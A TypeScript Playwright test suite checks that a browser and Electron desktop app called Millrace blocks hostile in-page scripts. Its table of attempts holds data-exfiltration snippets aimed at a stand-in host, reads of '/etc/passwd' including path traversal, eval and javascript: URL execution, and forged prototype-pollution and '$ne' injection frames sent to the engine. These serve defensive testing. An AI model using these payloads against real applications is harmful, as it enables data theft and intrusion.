import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright'
import { expect, onTestFinished, test } from 'vitest'
import { openScreen, places } from './screens.ts'

/** Somewhere else: it counts who comes. */
const openElsewhere = async () => {
  const hits: string[] = []
  const server = createServer((request, response) => {
    hits.push(request.url ?? '')
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('1')
  })
  server.on('upgrade', (request, socket) => {
    hits.push(request.url ?? '')
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void server.close())
  const { port } = server.address() as AddressInfo
  return { hits, host: `127.0.0.1:${port}` }
}

/** Runs a hostile script in the page, as one that got into our bundle would; what it came to, as text. */
const attempt = (page: Page, script: string): Promise<string> =>
  page.evaluate(`(async () => {
    const quiet = (promise) => Promise.race([promise, new Promise((end) => setTimeout(end, 1500, 'nothing'))])
    try { return String(await quiet((async () => { ${script} })())) } catch (error) { return 'refused: ' + error.message }
  })()`)

const refused = /^(refused|nothing|undefined|null|false)/

/** Each tries to get out, to `HOST` or elsewhere. */
const ways: Readonly<Record<string, string>> = {
  'fetch of another place': `return (await fetch('http://HOST/fetch')).status`,
  'fetch of a file': `return (await fetch('file:///etc/passwd')).status`,
  XMLHttpRequest: `return new Promise((end, fail) => { const r = new XMLHttpRequest(); r.open('GET', 'http://HOST/xhr'); r.onload = () => end(r.status); r.onerror = () => fail(new Error('blocked')); r.send() })`,
  'a WebSocket': `return new Promise((end, fail) => { const s = new WebSocket('ws://HOST/socket'); s.onopen = () => end('open'); s.onerror = () => fail(new Error('blocked')) })`,
  'an EventSource': `return new Promise((end, fail) => { const s = new EventSource('http://HOST/events'); s.onopen = () => end('open'); s.onerror = () => fail(new Error('blocked')) })`,
  'a beacon': `navigator.sendBeacon('http://HOST/beacon', 'x'); return 'nothing'`,
  'an image': `return new Promise((end, fail) => { const i = new Image(); i.onload = () => end('loaded'); i.onerror = () => fail(new Error('blocked')); i.src = 'http://HOST/image' })`,
  'a script of another place': `return new Promise((end, fail) => { const s = document.createElement('script'); s.src = 'http://HOST/script.js'; s.onload = () => end('loaded'); s.onerror = () => fail(new Error('blocked')); document.head.append(s) })`,
  'an inline script': `const s = document.createElement('script'); s.textContent = 'window.ranInline = true'; document.head.append(s); return window.ranInline`,
  'a handler in an attribute': `document.body.insertAdjacentHTML('beforeend', '<button id="evil" onclick="window.ranHandler = true"></button>'); document.getElementById('evil').click(); return window.ranHandler`,
  'a script in an address': `const a = document.createElement('a'); a.href = 'javascript:window.ranAddress = true'; document.body.append(a); a.click(); return window.ranAddress`,
  'a style of another place': `return new Promise((end, fail) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://HOST/style.css'; l.onload = () => end('loaded'); l.onerror = () => fail(new Error('blocked')); document.head.append(l) })`,
  'a frame': `const f = document.createElement('iframe'); f.src = 'http://HOST/frame'; document.body.append(f); return 'nothing'`,
  'a worker of another place': `return new Promise((end, fail) => { const w = new Worker('http://HOST/worker.js'); w.onerror = () => fail(new Error('blocked')); w.onmessage = () => end('ran') })`,
  'a form': `const f = document.createElement('form'); f.action = 'http://HOST/form'; f.method = 'post'; document.body.append(f); f.submit(); return 'nothing'`,
  'a window': `return window.open('http://HOST/window') === null ? 'null' : 'nothing'`,
  'a prefetch': `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'http://HOST/prefetch'; document.head.append(l); return 'nothing'`,
  'the camera': `return (await navigator.mediaDevices.getUserMedia({ video: true })).id`,
  'the place of the machine': `return new Promise((end, fail) => navigator.geolocation.getCurrentPosition((p) => end(p.coords.latitude), fail))`,
  'a serial port': `return (await navigator.serial?.requestPort())`,
  Node: `return typeof require + typeof process + typeof module + typeof Buffer + typeof global === 'undefined'.repeat(5) ? 'nothing' : 'found'`,
  'the shell’s own messages': `return window.ipcRenderer ?? window.electron ?? window.millraceDesktop?.ipcRenderer`,
  'a path above the screen': `const r = await fetch(new URL('../../../../etc/passwd', location.href)); return r.ok ? (await r.text()).includes('root:') && 'found' : 'nothing'`,
}

/** Text as code, in the ways that the language knows. */
const evaluates = [
  "eval('1')",
  "new Function('return 1')()",
  "new Promise((seen) => { setTimeout('self.ran = 1', 0); setTimeout(() => seen(self.ran), 50) })",
]

test.each(places)('%s: a page that turns against us gets nothing', async (place) => {
  const { hits, host } = await openElsewhere()
  const { page, errors } = await openScreen(place)
  await page.getByRole('navigation', { name: 'Pages' }).waitFor()
  const address = page.url()
  const got: Record<string, string> = {}
  for (const [name, way] of Object.entries(ways)) {
    const result = await attempt(page, way.replaceAll('HOST', host))
    if (!refused.test(result)) got[name] = result
  }
  expect(got).toEqual({})
  expect(page.url().split('#')[0]).toBe(address.split('#')[0])
  // A tab of a browser opens other tabs; they are another site's, and know nothing of ours.
  const ofOtherTabs = place === 'browser' ? ['/window', '/favicon.ico'] : []
  expect(hits.filter((hit) => !ofOtherTabs.includes(hit))).toEqual([])
  expect(errors.some((error) => error.includes('Content Security Policy'))).toBe(true)
})

test.each(places)('%s: text never becomes code', async (place) => {
  const { page } = await openScreen(place)
  await page.getByRole('navigation', { name: 'Pages' }).waitFor()
  // Run as the page's own script would be: by a click on something of its own, outside what a debugger evaluates.
  for (const code of evaluates) {
    const result = await attempt(
      page,
      `return new Promise((end, fail) => { const t = document.createElement('button'); t.onclick = () => queueMicrotask(() => { try { end(${code}) } catch (error) { fail(error) } }); document.body.append(t); setTimeout(() => t.click(), 0) })`,
    )
    expect(result).toMatch(refused)
  }
})

test('desktop: the window goes nowhere, opens nothing, and embeds nothing', async () => {
  const { hits, host } = await openElsewhere()
  const { page, app } = await openScreen('desktop')
  await page.getByRole('navigation', { name: 'Pages' }).waitFor()
  const address = page.url().split('#')[0]
  for (const target of [
    `http://${host}/away`,
    'file:///etc/passwd',
    'data:text/html,<b>x</b>',
    'millrace://other/index.html',
    'chrome://version',
  ])
    await attempt(page, `location.href = ${JSON.stringify(target)}; return 'nothing'`)
  await attempt(
    page,
    `const w = document.createElement('webview'); w.src = 'http://${host}/webview'; document.body.append(w); return 'nothing'`,
  )
  expect(page.url().split('#')[0]).toBe(address)
  // Playwright's locators wait for a navigation to finish that was stopped before it began.
  expect(await page.evaluate(`document.querySelector('nav[aria-label="Pages"]') !== null`)).toBe(true)
  expect(await app?.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
  expect(
    await app?.evaluate(
      ({ webContents }) => webContents.getAllWebContents().filter((one) => one.getType() === 'webview').length,
    ),
  ).toBe(0)
  expect(hits).toEqual([])
})

test('desktop: what a page says to the shell is checked', async () => {
  const { page, app, errors } = await openScreen('desktop')
  await page.getByRole('navigation', { name: 'Pages' }).waitFor()
  await app?.evaluate(({ shell, dialog }) => {
    Object.assign(globalThis, { opened: [], asked: [] })
    dialog.showMessageBox = (...given: readonly unknown[]) => {
      const { message, detail } = given.at(-1) as { message: string; detail: string }
      ;(globalThis as unknown as { asked: string[] }).asked.push(`${message} ${detail}`)
      return Promise.resolve({ response: detail.endsWith('/yes') ? 1 : 0, checkboxChecked: false })
    }
    shell.openExternal = (url: string) =>
      Promise.resolve(void (globalThis as unknown as { opened: string[] }).opened.push(url))
  })
  await page.evaluate(`
    const bridge = window.millraceDesktop
    for (const bad of ['file:///etc/passwd', 'https://example.org/no', 'javascript:1', null, {}, ['https://github.com']]) bridge.openLink(bad)
    bridge.openLink('https://github.com/duckdb/duckdb')
    window.open('https://example.org/elsewhere')
    setTimeout(() => bridge.openLink('http://example.org:8080/yes'), 500)
    for (const bad of [null, 'x', [{ id: 1 }], [null]]) bridge.showCommands(bad)
    for (const bad of [null, {}, 5]) bridge.noteFile(bad)
    bridge.notify(null, () => {})
    bridge.notify({ title: {}, body: 1 }, () => {})
  `)
  expect(await page.evaluate('window.millraceDesktop.saveFile({}, {})')).toBe(false)
  expect(await page.evaluate('window.millraceDesktop.saveCopy(null)')).toBe(false)
  await expect
    .poll(() => app?.evaluate(() => (globalThis as unknown as { opened: string[] }).opened), { timeout: 20_000 })
    .toEqual(['https://github.com/duckdb/duckdb', 'http://example.org:8080/yes'])
  expect(await app?.evaluate(() => (globalThis as unknown as { asked: string[] }).asked)).toEqual([
    'Open example.org in the browser? https://example.org/no',
    'Open example.org:8080 in the browser? http://example.org:8080/yes',
  ])
  expect(
    await page.evaluate(
      'Object.isFrozen(window.millraceDesktop) || (window.millraceDesktop.openLink = null, typeof window.millraceDesktop.openLink)',
    ),
  ).not.toBe('undefined')
  expect(errors).toEqual([])
})

/** Frames that no client of ours sends, and what came back. */
const forged = `const frames = ['', '{', 'null', '[]', '{"i":1}', JSON.stringify({ i: '1', u: '/system/version' }), JSON.stringify({ i: 'x', t: 9, p: {} }),
  JSON.stringify({ i: '2', p: { u: '/constructor/constructor', b: {} } }), JSON.stringify({ i: '3', p: { u: '/__proto__/polluted', b: { json: { __proto__: { polluted: 1 } } } } }),
  JSON.stringify({ i: '4', p: { u: '/flows/delete', b: { json: { name: { $ne: null } } } } }), new Uint8Array(100000).buffer, 'x'.repeat(100000)]`

test.each(places)('%s: forged messages reach no further than the engine’s door', async (place) => {
  const { page } = await openScreen(place)
  await page.getByRole('navigation', { name: 'Pages' }).waitFor()
  const send =
    place === 'desktop'
      ? `const port = await new Promise((end) => { window.addEventListener('message', (event) => event.ports[0] && end(event.ports[0]), { once: true }); window.millraceDesktop.requestPort() }); const said = []; port.onmessage = ({ data }) => said.push(String(data)); for (const frame of frames) port.postMessage(frame)`
      : `const socket = new WebSocket('ws://' + location.host + '/engine?token=' + sessionStorage.getItem('millrace-token')); await new Promise((end) => (socket.onopen = end)); const said = []; socket.onmessage = ({ data }) => said.push(String(data)); for (const frame of frames) socket.send(frame)`
  const said = await attempt(
    page,
    `${forged}; ${send}; await new Promise((end) => setTimeout(end, 500)); return JSON.stringify(said)`,
  )
  expect(said).not.toMatch(/"home"|polluted":1/)
  // The engine serves on.
  await page.evaluate(`location.hash = '#/settings'`)
  await page.getByRole('heading', { name: 'Settings' }).waitFor()
})
